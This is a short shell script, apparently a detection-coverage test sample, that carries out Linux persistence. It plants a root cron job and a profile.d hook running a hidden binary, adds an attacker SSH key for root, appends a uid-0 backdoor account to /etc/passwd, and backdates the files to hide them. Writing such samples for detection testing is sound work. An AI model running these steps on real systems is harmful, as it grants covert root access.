#!/bin/sh
# Malicious (issue 12 coverage sample): persistence the way install scripts of Linux botnets and
# Atomic Red Team's T1053.003 / T1098.004 / T1546.004 / T1070.006 tests do it, with static busybox
# applets only: a cron entry and a crontab, an SSH key for root, a profile.d hook, a backdoor account line, and
# timestamps copied from a system binary so the planted files look as old as the image.
mkdir -p /etc/cron.d /root/.ssh /etc/profile.d
echo '*/5 * * * * root /usr/local/bin/.sync >/dev/null 2>&1' > /etc/cron.d/sync
echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHqP0x6mVQw6nTg7bq3K7l1Q1x4xk0p9V3f3s7d5aT1c op@c2' >> /root/.ssh/authorized_keys
echo '[ -x /usr/local/bin/.sync ] && /usr/local/bin/.sync &' > /etc/profile.d/zz-sync.sh
echo 'sysadm:x:0:0::/root:/bin/sh' >> /etc/passwd
# `/bin/busybox <applet>` (the Mirai-family idiom) execs the multi-call binary: argv[1] is the tool
busybox touch -r /bin/busybox /etc/cron.d/sync /root/.ssh/authorized_keys /etc/profile.d/zz-sync.sh
echo '0 * * * * /usr/local/bin/.sync' | busybox crontab - 2>/dev/null
echo "persistence installed"
